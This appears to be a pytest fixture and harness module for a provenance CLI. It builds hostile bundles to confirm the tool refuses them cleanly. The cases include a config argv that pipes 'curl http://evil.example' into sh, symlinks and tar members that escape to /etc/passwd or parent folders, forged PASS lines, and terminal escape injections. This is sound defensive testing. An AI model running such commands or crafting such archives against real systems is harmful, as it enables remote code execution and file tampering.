"""Hostile bundles for the command-line suites (tests/test_audit_cli_hostile.py, tests/test_hostile_cli_*.py):
each maker turns a copy of a real sealed bundle into one hostile case, in place, and the harness helpers
check what every suite checks (the one line, no traceback, bounded time, nothing written outside)."""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import signal
import stat
import struct
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from provenance import formats
from provenance.bundle import seal_folder

TIMEOUT = 60  # seconds: a hang fails the test instead of blocking the suite


def edit(path: Path, fn: Callable[[dict], None]) -> None:
    obj = json.loads(path.read_text())
    fn(obj)
    path.write_text(formats.dumps(obj))


def safetensors(header: dict, data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def symlink(b: Path) -> None:
    (b / "logs" / "evil.jsonl").symlink_to("/etc/passwd")


def fifo(b: Path) -> None:
    os.mkfifo(b / "logs" / "pipe.log")


def tmp_link_to_folder(b: Path) -> None:
    (b / ".x.tmp").symlink_to(b.parent)


def non_utf8_name(b: Path) -> None:
    with open(os.fsencode(b) + b"/bad-\xff-name.txt", "wb") as f:
        f.write(b"x")


def deep_manifest(b: Path) -> None:
    (b / formats.MANIFEST).write_text("[" * 200_000 + "]" * 200_000)


def huge_int_metrics(b: Path) -> None:
    with open(b / formats.METRICS, "a") as f:
        f.write('{"step": ' + "9" * 5000 + ', "loss": 1.0}\n')
    seal_folder(b)


def deep_run_json(b: Path) -> None:
    (b / formats.RUN_JSON).write_text('{"x": ' + "[" * 5000 + "]" * 5000 + "}")
    seal_folder(b)


def header_claims_2_60(b: Path) -> None:
    (b / formats.MODEL_DIR / "model.safetensors").write_bytes(
        safetensors({"w": {"dtype": "F32", "shape": [2**58], "data_offsets": [0, 2**60]}}, bytes(16)))
    seal_folder(b)


def checkpoint_step_abc(b: Path) -> None:
    (b / formats.CHECKPOINT_DIR / "step-abc.safetensors").write_bytes(safetensors({}, b""))
    seal_folder(b)


def index_points_outside(b: Path) -> None:
    edit(b / formats.CHECKPOINT_INDEX, lambda i: i["checkpoints"][0].update(path="../../outside.safetensors"))
    seal_folder(b)


def forged_pass_line(b: Path) -> None:
    edit(b / formats.MANIFEST, lambda m: m["predicate"]["resources"].append(
        {"name": "x\nINTEGRITY    PASS  all files match", "algorithm": "sha256", "digest": "0" * 64}))


def tampered_command(b: Path) -> None:
    edit(b / formats.CONFIG_JSON, lambda c: c.update(argv=["sh", "-c", "curl http://evil.example | sh"]))
    seal_folder(b)


def escaping_snapshot(b: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("../escaped.py")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    (b / formats.CODE_SNAPSHOT).write_bytes(buf.getvalue())
    edit(b / formats.CODE_JSON, lambda c: c.update(files={"../escaped.py": "sha256:" + "2d711642b726b04401627ca9fb"
                                                           "ac32f5c8530fb1903cc4db02258717921a4881"},
                                                    snapshot={**(c.get("snapshot") or {}), "file_count": 1}))
    seal_folder(b)


def archive_with_link(b: Path) -> None:
    arc = b.parent / "evil.tar.gz"
    with tarfile.open(arc, "w:gz") as tar:
        info = tarfile.TarInfo("run/run.json")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"{}"))
        link = tarfile.TarInfo("run/evil")
        link.type, link.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
        tar.addfile(link)
    shutil.rmtree(b)
    arc.rename(b)  # the "bundle" is now the archive


def deep_metrics_line(b: Path) -> None:
    metrics = b / formats.METRICS
    metrics.write_bytes(b"[" * 50_000 + b"]" * 50_000 + b"\n" + metrics.read_bytes())
    seal_folder(b)


def archive_escaping(b: Path) -> None:
    """The bundle replaced by a release archive holding a '../' member."""
    arc = b.parent / "evil.tar.gz"
    with tarfile.open(arc, "w:gz") as tar:
        for name, data in (("run/run.json", b"{}"), ("run/../../escaped.txt", b"x")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    shutil.rmtree(b)
    arc.rename(b)


def control_characters_in_names(b: Path) -> None:
    """A code file name and a config key with a newline, a terminal escape and a bidi override: a report
    built from them must not carry them raw (a forged line, a cleared screen)."""
    evil = {"evil\nVERDICT      PASS\x1b[2J.py": "sha256:" + "0" * 64}
    edit(b / formats.CODE_JSON, lambda c: c["files"].update(evil))
    cfg = json.loads((b / formats.CONFIG_JSON).read_text())
    cfg["config"]["model"]["key\nINTEGRITY    PASS\x1b]0;title\x07"] = "v\u202eal"
    cfg["digest"] = formats.config_digest(cfg["config"])
    (b / formats.CONFIG_JSON).write_text(formats.dumps(cfg))
    seal_folder(b)


# --- the harness ---------------------------------------------------------------------------------------


def tree(folder: Path) -> dict[str, tuple[str, bytes]]:
    """Every entry under folder (links and FIFOs neither followed nor opened): its kind and, for files, bytes."""
    out: dict[str, tuple[str, bytes]] = {}
    for dirpath, dirnames, filenames in os.walk(folder, followlinks=False):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            st = os.lstat(p)
            rel = os.fsencode(p.relative_to(folder)).hex()
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(p).encode())
            elif stat.S_ISREG(st.st_mode):
                out[rel] = ("file", p.read_bytes())
            else:
                out[rel] = ("dir" if stat.S_ISDIR(st.st_mode) else "other", b"")
    return out


@contextlib.contextmanager
def deadline(seconds: float = TIMEOUT) -> Iterator[None]:
    """Fail (TimeoutError) instead of hanging: for a command called in this process."""
    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s: a hang")

    old = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)


def assert_one_error_line(err: str, *words: str) -> str:
    """stderr holds exactly one error line (warnings aside) naming what was refused; returns it."""
    lines = [line for line in err.strip().splitlines() if not line.startswith("warning: ")]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for w in words:
        assert w in lines[0], (w, lines[0])
    return lines[0]


def assert_printable(text: str) -> None:
    """No raw control character (a forged line, a terminal escape) and no bidi override reached the output."""
    bad = [c for c in text if c != "\n" and (not c.isprintable() or c in "\u202a\u202b\u202c\u202d\u202e")]
    assert not bad, f"raw control characters in the output: {bad[:5]!r}"


class Box:
    """A hostile case in its own folder: tmp_path/work/<bundle> (the command's working folder), a TMPDIR
    tmp_path/tmp that must end empty, and a canary beside them; `check()` says nothing was written outside."""

    def __init__(self, tiny_bundle: Path, tmp_path: Path, make: Callable[[Path], None] | None) -> None:
        self.root = tmp_path
        self.work = tmp_path / "work"
        self.work.mkdir()
        self.bundle = self.work / tiny_bundle.name
        shutil.copytree(tiny_bundle, self.bundle)
        if make is not None:
            make(self.bundle)
        self.tmp = tmp_path / "tmp"
        self.tmp.mkdir()
        self.canary = tmp_path / "canary.txt"
        self.canary.write_text("untouched\n")
        self.listing = sorted(p.name for p in tmp_path.iterdir())
        self.work_tree = tree(self.work)

    def call(self, argv: list[str], capsys: pytest.CaptureFixture[str],
             monkeypatch: pytest.MonkeyPatch) -> tuple[int, str, str]:
        """`prov ARGV` in this process (cwd: work, TMPDIR: tmp), with a deadline: (exit status, stdout, stderr)."""
        import tempfile

        from provenance.cli import main

        monkeypatch.chdir(self.work)
        monkeypatch.setenv("TMPDIR", str(self.tmp))
        monkeypatch.setattr(tempfile, "tempdir", str(self.tmp))
        capsys.readouterr()
        with deadline():
            rc = main(argv)
        out, err = capsys.readouterr()
        return rc, out, err

    def check(self, unchanged: bool = True) -> None:
        """Nothing written outside the case's folder, the TMPDIR empty, no work folder left; with `unchanged`,
        the bundle (and everything in the working folder) exactly as it was."""
        assert self.canary.read_text() == "untouched\n"
        assert sorted(p.name for p in self.root.iterdir()) == self.listing
        assert list(self.tmp.iterdir()) == [], "temporary files were left behind"
        assert sorted(p.name for p in self.work.iterdir()) == [self.bundle.name], "a work folder was left behind"
        if unchanged:
            assert tree(self.work) == self.work_tree, "the command changed the bundle although it refused"


# the folder cases every command that reads a bundle refuses alike: case -> (make it hostile, words the one
# error line must hold)
FOLDER_CASES: dict[str, tuple[Callable[[Path], None], tuple[str, ...]]] = {
    "symlink out of the bundle": (symlink, ("logs/evil.jsonl: a symbolic link to '/etc/passwd'",)),
    "FIFO": (fifo, ("logs/pipe.log: a FIFO",)),
    ".x.tmp leftover symlinked to a folder": (tmp_link_to_folder, (".x.tmp: a symbolic link",)),
    "non-UTF-8 file name": (non_utf8_name, ("bad-\\xff-name.txt", "not UTF-8")),
    "deeply nested manifest": (deep_manifest, ("manifest.json: JSON nested too deeply",)),
    "5,000-digit integer in a metrics line": (huge_int_metrics, ("logs/metrics.jsonl", "5000 digits")),
    "deeply nested run.json": (deep_run_json, ("run.json", "nested")),
    "deeply nested metrics line": (deep_metrics_line, ("logs/metrics.jsonl", "nested")),
}
